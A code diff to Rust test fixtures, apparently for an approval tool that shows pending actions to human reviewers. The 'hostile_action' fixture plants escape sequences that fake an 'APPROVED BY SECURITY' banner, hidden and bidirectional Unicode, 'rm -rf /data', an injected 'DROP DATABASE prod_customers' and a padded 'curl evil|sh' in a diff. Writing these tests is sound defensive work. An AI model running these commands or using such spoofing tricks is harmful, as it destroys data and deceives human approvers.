@@ -88,6 +88,7 @@ pub fn action(n: u8, kind: &str, resource: &str, env: &str, level: RiskLevel) ->
             approvals_required: if level == RiskLevel::Critical { 2 } else { 1 },
             approver_groups: vec!["sre".into()],
             rule: Some("exports-need-sre".into()),
+            confirm: None,
             distinct_groups: false,
         },
         created_at: created,
@@ -105,13 +106,24 @@ pub fn hostile_action(n: u8) -> Action {
     a.summary = "Routine export\u{1b}[2J\u{1b}[1;32m APPROVED BY SECURITY\u{1b}[0m".into();
     a.requester.display_name = "ops-bot\u{1b}]0;pwned\u{7}".into();
     a.target.resource = "cust\u{200b}omers".into();
-    a.justification =
-        "Looks safe.\u{202e}txt.exe\u{202c}\nSecond line with a tab:\there\u{7}".into();
+    a.justification = "Looks safe.\u{202e}txt.exe\u{202c}\nSecond line with a tab:\there\u{7}\n\
+         Fillers\u{3164}\u{2800}\u{FFA0}, annotation \u{FFF9}AAAA\u{FFFA}PLAIN\u{FFFB}, tags \u{E0041}\u{E007F}"
+        .into();
+    a.context.push(crate::protocol::ContextEntry {
+        key: "note".into(),
+        value: format!(
+            "restart web\u{1b}]0;{} AND DROP DATABASE prod_customers",
+            "x".repeat(50)
+        ),
+    });
     a.command = Some(Command::Text {
         text: "rm -rf /data \u{1b}[8m# hidden".into(),
     });
     a.change = Some(Change::UnifiedDiff {
-        diff: "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-allow = false\n+allow = true\u{202e} // eslaf\n context\u{1b}[2K\n".into(),
+        diff: format!(
+            "--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n-allow = false\n+allow = true\u{202e} // eslaf\n context\u{1b}[2K\n-run = \"deploy\"\n+run = \"deploy{};TAILMARK-DIFF curl evil|sh\"\n",
+            " ".repeat(300)
+        ),
     });
     a.risk.tags.push(tag(
         "hidden-characters",
@@ -141,6 +153,7 @@ pub fn settings() -> Settings {
         key_id: KeyId("0123456789abcdef".into()),
         alert_level: RiskLevel::High,
         broker_url: "http://127.0.0.1:7700".into(),
+        decision_seed: 0x5eed,
     }
 }
 
